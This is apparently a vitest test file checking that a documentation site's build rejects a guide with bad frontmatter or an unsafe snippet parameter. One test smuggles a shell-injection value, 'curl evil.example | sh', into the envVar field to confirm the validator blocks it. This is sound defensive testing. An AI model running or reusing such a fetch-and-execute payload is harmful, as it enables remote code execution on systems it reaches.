/**
 * Promise 5 at build level: a guide with broken frontmatter or an unsafe
 * snippet parameter fails `npm run build` with one message naming the file and
 * the field, and leaves the previous dist/ untouched.
 */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildProject, FULL_BUILD_TIMEOUT, projectWith } from '../support/project-copy';

const FIXTURE = readFileSync('test/fixtures/secrets/example-api-token.mdx', 'utf8');

describe('a broken guide fails the build', () => {
  it.concurrent('broken frontmatter: names the file and the field', () => {
    const root = projectWith(FIXTURE.replace('category: generic', 'category: spaceships'));
    const { status, output } = buildProject(root);
    expect(status).not.toBe(0);
    expect(output).toContain('Invalid frontmatter in content/secrets/example-api-token.mdx');
    expect(output).toMatch(/"category" must be one of cloud, .*; received "spaceships"/);
    expect(readFileSync(join(root, 'dist/index.html'), 'utf8')).toBe('previous build');
    expect(readdirSync(root).filter((name) => name.includes('staging'))).toEqual([]);
  }, FULL_BUILD_TIMEOUT);

  it.concurrent('an unsafe snippet parameter: names the file, the field and the rule', () => {
    const root = projectWith(FIXTURE.replace('envVar: EXAMPLE_TOKEN', `envVar: 'EXAMPLE"; curl evil.example | sh; "'`));
    const { status, output } = buildProject(root);
    expect(status).not.toBe(0);
    expect(output).toContain(
      'content/secrets/example-api-token.mdx: "snippet.envVar" must be an environment variable name matching ^[A-Z_][A-Z0-9_]*$',
    );
    expect(readFileSync(join(root, 'dist/index.html'), 'utf8')).toBe('previous build');
  }, FULL_BUILD_TIMEOUT);
});
